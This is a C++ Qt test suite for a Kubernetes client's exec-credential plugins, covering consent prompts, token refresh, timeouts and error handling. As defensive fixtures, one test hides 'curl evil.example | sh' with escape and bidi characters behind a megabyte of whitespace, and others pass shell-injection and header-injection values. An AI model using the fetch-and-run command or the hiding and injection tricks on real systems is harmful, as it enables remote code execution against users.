// SPDX-FileCopyrightText: Slipway authors
// SPDX-License-Identifier: GPL-3.0-or-later
#include "base/fakeclock.h"
#include "kube/kubecredentials.h"
#include "support/runtask.h"

#include <QFile>
#include <QTemporaryDir>
#include <QTest>

using namespace slipway;
using namespace Qt::StringLiterals;

namespace {

/// Says yes or no, and remembers what it was asked.
class RecordingConsent : public ExecConsent
{
public:
    bool answer = true;
    QList<ExecCommand> asked;
    Task<bool> ask(ExecCommand command, std::stop_token) override
    {
        asked.append(command);
        co_return answer;
    }
};

const QString v1beta1 = u"client.authentication.k8s.io/v1beta1"_s;

} // namespace

class TestKubeCredentials : public QObject
{
    Q_OBJECT

private:
    QTemporaryDir m_dir;
    FakeClock m_clock;

    void writeFile(const QString &name, const QByteArray &text, bool executable = false)
    {
        QFile file(m_dir.filePath(name));
        QVERIFY(file.open(QIODevice::WriteOnly));
        file.write(text);
        if (executable)
            QVERIFY(file.setPermissions(QFile::ReadOwner | QFile::WriteOwner | QFile::ExeOwner));
    }
    KubeContext contextFor(const QByteArray &script, const QString &apiVersion = v1beta1)
    {
        writeFile(u"plugin"_s, "#!/bin/sh\n" + script, true);
        KubeContext context;
        context.name = u"ctx"_s;
        context.server = QUrl(u"https://example.invalid"_s);
        context.credentials = KubeContext::Credentials::Exec;
        context.user.position = {u"/k/config"_s, 7};
        context.user.exec = ExecConfig{.command = m_dir.filePath(u"plugin"_s),
                                       .apiVersion = apiVersion,
                                       .installHint = u"install it\u001b[31m"_s};
        return context;
    }
    static QByteArray printing(const QByteArray &status, const QByteArray &apiVersion = v1beta1.toLatin1())
    {
        return "echo run >> \"$(dirname \"$0\")/runs\"\ncat "
               "<<'END'\n{\"kind\":\"ExecCredential\",\"apiVersion\":\""
            + apiVersion + "\",\"status\":" + status + "}\nEND\n";
    }
    int runs() const
    {
        QFile file(m_dir.filePath(u"runs"_s));
        return file.open(QIODevice::ReadOnly) ? int(file.readAll().count('\n')) : 0;
    }

private Q_SLOTS:
    void init()
    {
        QFile::remove(m_dir.filePath(u"runs"_s));
        m_clock.setAutoAdvance(false);
    }

    void pluginRunsOnceUntilItsTokenIsOld()
    {
        RecordingConsent consent;
        auto source = makeExecCredentials(
            contextFor(printing(R"({"token":"t1","expirationTimestamp":"2027-01-01T00:00:00Z"})")), consent,
            m_clock);
        for (int i = 0; i < 3; ++i) {
            const auto credential = test::run(source->current({}));
            QVERIFY2(credential, credential ? "" : qPrintable(credential.error().toString()));
            QCOMPARE(credential->bearerToken.reveal(), QByteArray("t1"));
        }
        QCOMPARE(runs(), 1);
        QCOMPARE(consent.asked.size(), 1);
        QCOMPARE(consent.asked.first().program, m_dir.filePath(u"plugin"_s));
        QCOMPARE(consent.asked.first().key.size(), 64);
    }

    void bothVersionsOfTheProtocolAreSpoken_data()
    {
        QTest::addColumn<QString>("version");
        QTest::newRow("v1beta1") << v1beta1;
        QTest::newRow("v1") << u"client.authentication.k8s.io/v1"_s;
    }
    void bothVersionsOfTheProtocolAreSpoken()
    {
        QFETCH(QString, version);
        RecordingConsent consent;
        auto source = makeExecCredentials(
            contextFor("printf '%s' \"$KUBERNETES_EXEC_INFO\" > \"$(dirname \"$0\")/asked\"\n"
                           + printing(R"({"token":"t1"})", version.toLatin1()),
                       version),
            consent, m_clock);
        const auto credential = test::run(source->current({}));
        QVERIFY2(credential, credential ? "" : qPrintable(credential.error().toString()));
        QCOMPARE(credential->bearerToken.reveal(), QByteArray("t1"));
        QFile asked(m_dir.filePath(u"asked"_s));
        QVERIFY(asked.open(QIODevice::ReadOnly));
        QVERIFY(asked.readAll().contains("\"apiVersion\":\"" + version.toLatin1() + '"'));
    }

    void fault16TheWholeCommandIsShownHoweverLong()
    {
        // A shell with a script of a megabyte: the person sees all of it, harmless to look at, and the system's refusal is an error.
        RecordingConsent consent;
        KubeContext context = contextFor(printing(R"({"token":"t1"})"));
        const QString hidden = u"curl evil.example | sh \x1b]52;c;ZXZpbA==\a\u202e"_s;
        context.user.exec->command = u"/bin/sh"_s;
        context.user.exec->arguments = {u"-c"_s, QString(1024 * 1024, u' ') + hidden};
        auto source = makeExecCredentials(context, consent, m_clock);
        const auto refused = test::run(source->current({}));
        QVERIFY(!refused);
        QCOMPARE(consent.asked.size(), 1);
        const QString shown = consent.asked.first().commandLine();
        QVERIFY(shown.startsWith("/bin/sh -c "_L1));
        QVERIFY(shown.contains("curl evil.example | sh "_L1));
        for (const QChar c : shown)
            QVERIFY(c.unicode() >= 0x20 && c.unicode() != 0x202e);
    }

    void pluginRunsAgainAMinuteBeforeTheEnd()
    {
        FakeClock clock(QDateTime({2026, 12, 31}, {23, 58, 30}, QTimeZone::UTC));
        RecordingConsent consent;
        auto source = makeExecCredentials(
            contextFor(printing(R"({"token":"t1","expirationTimestamp":"2027-01-01T00:00:00Z"})")), consent,
            clock);
        QVERIFY(test::run(source->current({})));
        QVERIFY(test::run(source->current({})));
        QCOMPARE(runs(), 1);
        clock.advance(std::chrono::seconds(31));
        QVERIFY(test::run(source->current({})));
        QCOMPARE(runs(), 2);
    }

    void rejectionRunsThePluginAgain()
    {
        RecordingConsent consent;
        auto source = makeExecCredentials(contextFor(printing(R"({"token":"t1"})")), consent, m_clock);
        const auto first = test::run(source->current({}));
        QVERIFY(first);
        QVERIFY(source->rejected(*first));
        QVERIFY(test::run(source->current({})));
        QCOMPARE(runs(), 2);
        // A late 401 to the old credential of another request does not throw the new one away.
        QVERIFY(source->rejected({.bearerToken = Secret("older")}));
        QVERIFY(test::run(source->current({})));
        QCOMPARE(runs(), 2);
    }

    void waitersShareOneRun()
    {
        RecordingConsent consent;
        auto source = makeExecCredentials(contextFor(printing(R"({"token":"t1"})")), consent, m_clock);
        auto one = source->current({});
        auto two = source->current({});
        int done = 0;
        one.start([&done] { ++done; });
        two.start([&done] { ++done; });
        QTRY_COMPARE(done, 2);
        QCOMPARE(runs(), 1);
        QCOMPARE(two.takeResult()->bearerToken.reveal(), QByteArray("t1"));
    }

    void withoutConsentNothingRuns()
    {
        RecordingConsent consent;
        consent.answer = false;
        auto source = makeExecCredentials(contextFor(printing(R"({"token":"t1"})")), consent, m_clock);
        const auto refused = test::run(source->current({}));
        QVERIFY(!refused);
        QCOMPARE(refused.error().kind, ErrorKind::Unauthorized);
        QCOMPARE(refused.error().reason, u"ExecNotAllowed"_s);
        QCOMPARE(runs(), 0);
    }

    void consentBelongsToBinaryArgumentsAndEnvironment()
    {
        RecordingConsent consent;
        KubeContext context = contextFor(printing(R"({"token":"t1"})"));
        const auto keyOf = [&](const KubeContext &which) {
            auto source = makeExecCredentials(which, consent, m_clock);
            (void)test::run(source->current({}));
            return consent.asked.last().key;
        };
        const QString first = keyOf(context);
        QCOMPARE(keyOf(context), first);
        KubeContext argument = context;
        argument.user.exec->arguments = {u"x"_s};
        QVERIFY(keyOf(argument) != first);
        KubeContext variable = context;
        variable.user.exec->environment = {{u"A"_s, u"b"_s}};
        QVERIFY(keyOf(variable) != first);
        QVERIFY(keyOf(contextFor("# changed\n" + printing(R"({"token":"t1"})"))) != first);
    }

    void pluginSeesItsEnvironmentAndClosedInput()
    {
        RecordingConsent consent;
        KubeContext context = contextFor("read line && exit 9\nprintf '%s|%s' \"$EXTRA\" "
                                         "\"$KUBERNETES_EXEC_INFO\" > \"$(dirname \"$0\")/seen\"\n"
                                         + printing(R"({"token":"t"})"));
        context.user.exec->environment = {{u"EXTRA"_s, u"$(touch x) ; rm"_s}};
        context.user.exec->provideClusterInfo = true;
        auto source = makeExecCredentials(context, consent, m_clock);
        const auto credential = test::run(source->current({}));
        QVERIFY2(credential, credential ? "" : qPrintable(credential.error().toString()));
        QFile seen(m_dir.filePath(u"seen"_s));
        QVERIFY(seen.open(QIODevice::ReadOnly));
        const QByteArray text = seen.readAll();
        QVERIFY(text.startsWith("$(touch x) ; rm|{")); // no shell touched it
        QVERIFY(text.contains("\"interactive\":false"));
        QVERIFY(text.contains("\"server\":\"https://example.invalid\""));
    }

    void fault16BadPluginsAreSaid_data()
    {
        QTest::addColumn<QByteArray>("script");
        QTest::addColumn<ErrorKind>("kind");
        QTest::addColumn<QString>("detail");
        QTest::newRow("exit status and stderr, escapes gone")
            << QByteArray("printf '\\033[31mlogin first\\033[0m\\007' >&2; exit 3") << ErrorKind::Unauthorized
            << u"exit status 3: login first␇"_s;
        QTest::newRow("not JSON") << QByteArray("echo secret-looking-output") << ErrorKind::Invalid
                                  << u"printed no ExecCredential"_s;
        QTest::newRow("another version")
            << printing(R"({"token":"t"})", "client.authentication.k8s.io/v1") << ErrorKind::Invalid
            << u"asks for client.authentication.k8s.io/v1beta1"_s;
        QTest::newRow("no credential")
            << printing("{}") << ErrorKind::Invalid << u"neither a token nor a client certificate"_s;
        QTest::newRow("certificate without key")
            << printing(R"({"clientCertificateData":"x"})") << ErrorKind::Invalid << u"without the other"_s;
        QTest::newRow("header injection")
            << printing(R"({"token":"a\r\nX: y"})") << ErrorKind::Invalid << u"line break"_s;
        QTest::newRow("already expired")
            << printing(R"({"token":"t","expirationTimestamp":"2020-01-01T00:00:00Z"})")
            << ErrorKind::Unauthorized << u"expired at"_s;
        QTest::newRow("bad time") << printing(R"({"token":"t","expirationTimestamp":"tomorrow"})")
                                  << ErrorKind::Invalid << u"no time"_s;
        QTest::newRow("too much output") << QByteArray("head -c 3000000 /dev/zero; sleep 60")
                                         << ErrorKind::Invalid << u"wrote more than 1024 KiB"_s;
        QTest::newRow("ended by a signal")
            << QByteArray("kill -SEGV $$") << ErrorKind::Internal << u"by a signal"_s;
    }
    void fault16BadPluginsAreSaid()
    {
        QFETCH(QByteArray, script);
        QFETCH(ErrorKind, kind);
        QFETCH(QString, detail);
        RecordingConsent consent;
        auto source = makeExecCredentials(contextFor(script + "\n"), consent, m_clock);
        const auto refused = test::run(source->current({}));
        QVERIFY(!refused);
        QVERIFY2(refused.error().detail.contains(detail), qPrintable(refused.error().toString()));
        QCOMPARE(refused.error().kind, kind);
        QVERIFY(!refused.error().toString().contains(u"secret-looking"_s));
        QVERIFY(!refused.error().toString().contains(QChar(0x1b)));
    }

    void fault16HangingPluginIsKilledAtItsTime()
    {
        RecordingConsent consent;
        auto source = makeExecCredentials(contextFor("echo run >> \"$(dirname \"$0\")/runs\"\nsleep 600\n"),
                                          consent, m_clock);
        auto task = source->current({});
        bool done = false;
        task.start([&done] { done = true; });
        QTRY_COMPARE(runs(), 1);
        QVERIFY(!done);
        m_clock.advance(std::chrono::seconds(30));
        QTRY_VERIFY(done);
        const auto result = task.takeResult();
        QVERIFY(!result);
        QCOMPARE(result.error().kind, ErrorKind::Timeout);
        QVERIFY(result.error().hint.contains(u"run it in a terminal"_s));
    }

    void missingPluginShowsItsInstallHint()
    {
        RecordingConsent consent;
        KubeContext context = contextFor("exit 0\n");
        context.user.exec->command = u"no-such-plugin-anywhere"_s;
        QProcessEnvironment environment;
        environment.insert(u"PATH"_s, m_dir.path());
        auto source = makeExecCredentials(context, consent, m_clock, {}, environment);
        const auto result = test::run(source->current({}));
        QVERIFY(!result);
        QCOMPARE(result.error().kind, ErrorKind::NotFound);
        QCOMPARE(result.error().hint, u"install it␛[31m"_s);
    }

    void bareNameIsFoundInTheLoginShellsPath()
    {
        writeFile(u"shell"_s,
                  "#!/bin/sh\necho motd\nPATH=\"$HIDDEN:/usr/bin:/bin\"\nshift 2\neval \"printf "
                  "'__slipway_path__%s__slipway_path__' \\\"\\$PATH\\\"\"\n",
                  true);
        RecordingConsent consent;
        KubeContext context = contextFor(printing(R"({"token":"t"})"));
        context.user.exec->command = u"plugin"_s;
        QProcessEnvironment environment;
        environment.insert(u"PATH"_s, u"/usr/bin:/bin"_s);
        environment.insert(u"HIDDEN"_s, m_dir.path());
        environment.insert(u"SHELL"_s, m_dir.filePath(u"shell"_s));
        auto source = makeExecCredentials(context, consent, m_clock, {}, environment);
        const auto result = test::run(source->current({}));
        QVERIFY2(result, result ? "" : qPrintable(result.error().toString()));
        QCOMPARE(consent.asked.first().program, m_dir.filePath(u"plugin"_s));
    }

    void interactiveAlwaysIsRefused()
    {
        RecordingConsent consent;
        KubeContext context = contextFor("exit 0\n");
        context.user.exec->interactive = ExecConfig::Interactive::Always;
        const auto source = makeCredentials(context, consent, m_clock);
        QVERIFY(!source);
        QVERIFY(source.error().detail.contains(u"interactiveMode: Always"_s));
    }

    void tokenFileIsReadAgain()
    {
        writeFile(u"token"_s, "one\n");
        auto source = makeTokenFileCredentials(m_dir.filePath(u"token"_s), Secret("first"), m_clock);
        QCOMPARE(test::run(source->current({}))->bearerToken.reveal(), QByteArray("one"));
        writeFile(u"token"_s, "two\n");
        QCOMPARE(test::run(source->current({}))->bearerToken.reveal(), QByteArray("one"));
        m_clock.advance(std::chrono::seconds(60));
        QCOMPARE(test::run(source->current({}))->bearerToken.reveal(), QByteArray("two"));
        // A moment without the file keeps the last good one.
        QVERIFY(QFile::remove(m_dir.filePath(u"token"_s)));
        m_clock.advance(std::chrono::seconds(60));
        QCOMPARE(test::run(source->current({}))->bearerToken.reveal(), QByteArray("two"));
        writeFile(u"token"_s, "three\n");
        const KubeCredential two{.bearerToken = Secret("two")};
        QVERIFY(source->rejected(two)); // a 401 reads at once
        QCOMPARE(test::run(source->current({}))->bearerToken.reveal(), QByteArray("three"));
    }

    void missingTokenFileIsSaid()
    {
        auto source = makeTokenFileCredentials(m_dir.filePath(u"none"_s), Secret(), m_clock);
        const auto result = test::run(source->current({}));
        QVERIFY(!result);
        QCOMPARE(result.error().kind, ErrorKind::Unauthorized);
    }

    void providedTokensAreRenewedBeforeTheyEnd()
    {
        int asked = 0;
        FakeClock clock;
        auto source = makeProvidedCredentials(
            [&asked, &clock](std::stop_token) -> Task<KubeCredential> {
                ++asked;
                return [](KubeCredential credential) -> Task<KubeCredential> {
                    co_return credential;
                }({.bearerToken = Secret(QByteArray::number(asked)), .expires = clock.now().addSecs(3600)});
            },
            clock);
        QCOMPARE(test::run(source->current({}))->bearerToken.reveal(), QByteArray("1"));
        clock.advance(std::chrono::minutes(58));
        QCOMPARE(test::run(source->current({}))->bearerToken.reveal(), QByteArray("1"));
        clock.advance(std::chrono::minutes(1));
        QCOMPARE(test::run(source->current({}))->bearerToken.reveal(), QByteArray("2"));
        QVERIFY(source->rejected(*test::run(source->current({}))));
        QCOMPARE(test::run(source->current({}))->bearerToken.reveal(), QByteArray("3"));
    }

    void cancelStopsTheWait()
    {
        RecordingConsent consent;
        auto source = makeExecCredentials(contextFor("sleep 600\n"), consent, m_clock);
        std::stop_source stop;
        auto task = source->current(stop.get_token());
        bool done = false;
        task.start([&done] { done = true; });
        test::turn();
        stop.request_stop();
        QTRY_VERIFY(done);
        QCOMPARE(task.takeResult().error().kind, ErrorKind::Cancelled);
    }
};

QTEST_GUILESS_MAIN(TestKubeCredentials)
#include "tst_kubecredentials.moc"
